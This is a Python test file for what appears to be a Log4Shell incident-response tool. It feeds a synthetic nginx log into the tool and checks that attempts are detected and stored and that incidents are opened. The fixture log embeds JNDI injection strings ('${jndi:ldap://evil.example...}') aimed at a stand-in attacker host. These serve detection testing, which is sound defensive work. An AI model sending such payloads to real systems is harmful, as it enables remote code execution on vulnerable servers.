"""caltrop up: what it finds in this host's logs and files is in the store afterwards, and answered from there. /var/log is one of its own, in a mount namespace."""
import os
import subprocess
import sys

import respond_case
from respond_case import RespondCase, finding, report

SCRIPT = """mount -t tmpfs none /var/log || exit 99
mkdir /var/log/nginx
cat > /var/log/nginx/access.log
exec "$@"
"""
LOG = "".join('192.0.2.%d - - [10/Dec/2021:13:2%d:01 +0000] "GET /?x=%s HTTP/1.1" 403 12 "-" "curl"\n' % (n, n % 10, payload) for n, payload in enumerate(
    ["${jndi:ldap://evil.example:1389/a}"] * 5 + ["$${jndi:ldap://evil.example:1389/dead}"] + ["/ordinary"] * 50))


def unshare():
    return ["unshare", "-m"] if os.geteuid() == 0 else ["unshare", "-rm"]


class Up(RespondCase):
    def setUp(self):
        super().setUp()
        del self.env["CALTROP_NOW"]

    def up(self, log, *args):
        return subprocess.run([*unshare(), "sh", "-c", SCRIPT, "sh", respond_case.cli_case.CALTROP, "up", *args], input=log.encode(), env=self.env, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, timeout=respond_case.DEADLINE, check=False)

    def test_what_it_finds_is_kept_and_answered(self):
        done = self.up(LOG, "--seconds", "1")
        text = done.stdout.decode()
        self.assertIn(done.returncode, (1, 3), (text, done.stderr))
        self.assertIn("6 attempts, 0 were there already", text)
        self.assertLess(text.index("THIS HOST'S FILES"), text.index("THIS HOST, AS THE COMMANDER SEES IT"))
        self.assertLess(text.index("THIS HOST, AS THE COMMANDER SEES IT"), text.index("ATTEMPTS AGAINST THIS HOST"))
        self.assertNotIn("${", text)
        (asset,) = self.lines("asset", "list", "--json", status=0)
        self.assertEqual(self.sql("SELECT count(*), count(DISTINCT asset), max(source) FROM attempt"), [(6, 1, "/var/log/nginx/access.log")])
        rows = self.lines("attempts", "--against-assets", "--json")
        self.assertEqual({r["asset"] for r in rows}, {asset["name"]})
        self.assertEqual([r["would"] for r in rows if r["grade"] == "attempt"], ["would not"])
        self.assertNotEqual([r["would"] for r in rows if r["grade"] == "exploit"], ["would not"])  # one second is no complete look
        grave = {name for (name,) in self.sql("SELECT DISTINCT v.name FROM finding f JOIN vulnerability v ON v.id = f.vulnerability WHERE f.closed IS NULL "
                                              "AND f.state <> 'mitigated' AND v.severity IN ('critical', 'high')")}
        covered = self.sql("SELECT v.name FROM vulnerability v JOIN incident_vulnerability c ON c.vulnerability = v.id")
        self.assertEqual({name for (name,) in covered}, grave)
        self.assertEqual("Opened incident INC-1" in text, bool(grave))
        again = self.up(LOG + LOG.replace("/a}", "/again}"), "--seconds", "0").stdout.decode()
        self.assertIn("6 attempts, 6 were there already", again)
        self.assertNotIn("THIS HOST'S FILES", again)
        self.assertNotIn("incident INC", again)
        self.assertIn("ATTEMPTS AGAINST THIS HOST", again)
        self.assertEqual(len(self.lines("asset", "list", "--json", status=0)), 1)

    def test_what_is_excluded_is_named_and_not_opened(self):
        broken = str(self.dir / "odd" / "broken.jar")
        os.mkdir(os.path.dirname(broken))
        with open(broken, "wb") as f:
            f.write(b"PK\3\4 and no more")
        text = self.up(LOG, "--seconds", "1", "--exclude", os.path.dirname(broken)).stdout.decode()
        self.assertNotIn("broken.jar", text)
        self.assertIn("Excluded on request: " + os.path.dirname(broken), text.replace("\n  ", " "))

    def test_what_is_grave_becomes_one_incident(self):
        self.up(LOG, "--seconds", "0")
        (asset,) = self.lines("asset", "list", "--json", status=0)
        self.assertEqual(self.sql("SELECT count(*) FROM incident"), [(0,)])
        known = {"name": asset["name"], "machine": asset.get("machine_id"), "hardware": asset.get("hardware_id")}
        self.take(report(**known, findings=[finding(), finding(cve="CVE-2021-44832", severity="medium")]))
        text = self.up(LOG, "--seconds", "0").stdout.decode()
        self.assertIn("Opened incident INC-1: CVE-2021-44228.", text)
        self.take(report(**known, findings=[finding(), finding(cve="CVE-2021-45046")], ended="2021-12-11T13:00:00Z"))
        self.assertIn("Joined to incident INC-1: CVE-2021-45046.", self.up(LOG, "--seconds", "0").stdout.decode())
        self.assertNotIn("incident INC-1:", self.up(LOG, "--seconds", "0").stdout.decode())
        self.assertEqual(self.sql("SELECT count(*) FROM incident"), [(1,)])

    def test_nothing_found_says_what_that_rests_on(self):
        text = self.up("", "--seconds", "0").stdout.decode()
        self.assertNotIn("AS THE COMMANDER SEES IT", text)  # nothing was looked at, nothing is kept
        self.assertNotIn("ATTEMPTS AGAINST", text)

    def test_a_store_that_cannot_be_is_no_end(self):
        self.env["CALTROP_DATA_DIR"] = "/proc/nosuch"
        done = self.up(LOG, "--seconds", "0")
        self.assertIn(b"exploit", done.stdout)
        self.assertIn(b"/proc/nosuch", done.stderr)
        self.assertEqual(done.returncode, 4)
        self.broken = True


if __name__ == "__main__":
    if subprocess.run([*unshare(), "sh", "-c", "mount -t tmpfs none /var/log"], stderr=subprocess.DEVNULL, check=False).returncode != 0:
        print("no mount namespace can be had here")
        sys.exit(77)
    respond_case.main()
